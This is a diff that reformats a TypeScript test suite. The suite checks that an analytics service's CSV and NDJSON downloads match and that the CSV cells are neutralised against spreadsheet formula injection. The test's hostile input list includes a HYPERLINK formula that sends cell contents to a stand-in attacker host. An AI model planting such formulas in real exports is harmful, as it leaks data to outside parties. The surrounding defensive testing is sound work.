@@ -1,4 +1,7 @@
-/** Analytics downloads contain the same rows as CSV and as NDJSON, and the CSV is safe to open in a spreadsheet. */
+/**
+ * Analytics downloads contain the same rows as CSV and as NDJSON, and the CSV is safe to open in a
+ * spreadsheet.
+ */
 
 import pg from "pg";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
@@ -11,7 +14,17 @@ import { newOrganization, type TestOrganization, type TestService } from "./serv
 
 await stayOnOneDay();
 const now = Date.now();
-const hostile = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", '=HYPERLINK("http://evil.example/?"&A1;"x")'];
+const hostile = [
+  "=1+1",
+  "+1",
+  "-1+1",
+  "@SUM(A1)",
+  "\t=1",
+  "\r=1",
+  "\n=1",
+  "＝1+1",
+  '=HYPERLINK("http://evil.example/?"&A1;"x")',
+];
 const texts = [
   ...hostile,
   'He said "no", twice',
@@ -54,9 +67,25 @@ beforeAll(async () => {
     const { projectId } = organization;
     for (const span of [1, 4, 16, 64]) {
       const first = Math.floor(today / span) * span;
-      await client.query("insert into page_traffic values ($1, $2, $3, $4, 5, 3, 2, 1)", [projectId, span, first, text]);
-      await client.query("insert into search_queries values ($1, $2, $3, $4, 9, 0, 2, 1, now())", [projectId, span, first, text]);
-      await client.query("insert into search_clicks values ($1, $2, $3, $4, $5, 1)", [projectId, text, span, first, path]);
+      await client.query("insert into page_traffic values ($1, $2, $3, $4, 5, 3, 2, 1)", [
+        projectId,
+        span,
+        first,
+        text,
+      ]);
+      await client.query("insert into search_queries values ($1, $2, $3, $4, 9, 0, 2, 1, now())", [
+        projectId,
+        span,
+        first,
+        text,
+      ]);
+      await client.query("insert into search_clicks values ($1, $2, $3, $4, $5, 1)", [
+        projectId,
+        text,
+        span,
+        first,
+        path,
+      ]);
     }
     await client.query("insert into referrers values ($1, $2, $3, 7)", [projectId, today, text]);
     await client.query(
@@ -86,13 +115,37 @@ const views: Record<string, string[]> = {
     "helpful",
     "comment",
   ],
-  "questions?": ["question", "count", "firstAskedAt", "lastAskedAt", "pages", "sections", "status", "assignee", "answerPath", "terms"],
+  "questions?": [
+    "question",
+    "count",
+    "firstAskedAt",
+    "lastAskedAt",
+    "pages",
+    "sections",
+    "status",
+    "assignee",
+    "answerPath",
+    "terms",
+  ],
   "searches?": ["searchQuery", "hits", "ctr", "topClickedPage", "lastSearchedAt"],
   "searches?show=without-results&": ["searchQuery", "withoutResults", "hits", "lastSearchedAt"],
   "traffic?": ["path", "human", "ai", "total"],
   "traffic?show=visitors&": ["path", "human", "ai", "total"],
   "traffic?show=referrers&": ["host", "views"],
-  "feedback?": ["id", "createdAt", "path", "source", "status", "helpful", "reason", "comment", "contact", "code", "filename", "lang"],
+  "feedback?": [
+    "id",
+    "createdAt",
+    "path",
+    "source",
+    "status",
+    "helpful",
+    "reason",
+    "comment",
+    "contact",
+    "code",
+    "filename",
+    "lang",
+  ],
   "feedback?show=pages&": ["path", "thumbsUp", "thumbsDown", "code", "total"],
 };
 
@@ -106,7 +159,10 @@ describe.each(Object.entries(views))("%s", (view, columns) => {
     expect(head).toEqual(columns);
     for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
     const ndjson = await viewer.ask(`${home}/${view}format=ndjson`);
-    expect([ndjson.status, ndjson.headers["content-type"]]).toEqual([200, "application/x-ndjson; charset=utf-8"]);
+    expect([ndjson.status, ndjson.headers["content-type"]]).toEqual([
+      200,
+      "application/x-ndjson; charset=utf-8",
+    ]);
     const objects = ndjson.text
       .trimEnd()
       .split("\n")
@@ -117,8 +173,12 @@ describe.each(Object.entries(views))("%s", (view, columns) => {
     for (const [n, object] of objects.entries())
       for (const [place, name] of columns.entries()) {
         const isList = name === "sources" || name === "sections" || name === "pages";
-        const value = isList ? (object[name] as { url: string }[]).map(({ url }) => url).join("\n") : object[name];
-        expect(rows[n]![place]!.replace(/^'(?=[=+\-@\t\r\n＝＋－＠])/, ""), name).toBe(value === null ? "" : String(value));
+        const value = isList
+          ? (object[name] as { url: string }[]).map(({ url }) => url).join("\n")
+          : object[name];
+        expect(rows[n]![place]!.replace(/^'(?=[=+\-@\t\r\n＝＋－＠])/, ""), name).toBe(
+          value === null ? "" : String(value),
+        );
       }
   });
 });
@@ -143,7 +203,9 @@ test("downloaded conversations can be imported elsewhere", async () => {
 test("a long download has all rows once and is streamed", { timeout: 180_000 }, async () => {
   const other = await newOrganization(service);
   const member = await newMember(service, other.id, "viewer");
-  const rows = Array.from({ length: 12_000 }, (_, n) => recorded(now - n * 50, `Question ${n} of many`, { response: "word ".repeat(600) }));
+  const rows = Array.from({ length: 12_000 }, (_, n) =>
+    recorded(now - n * 50, `Question ${n} of many`, { response: "word ".repeat(600) }),
+  );
   for (let at = 0; at < rows.length; at += 2_000) await importAll(other, rows.slice(at, at + 2_000));
   const path = `${member.home}/p/${other.projectId}/conversations?format=ndjson`;
   const { text } = await member.ask(path);
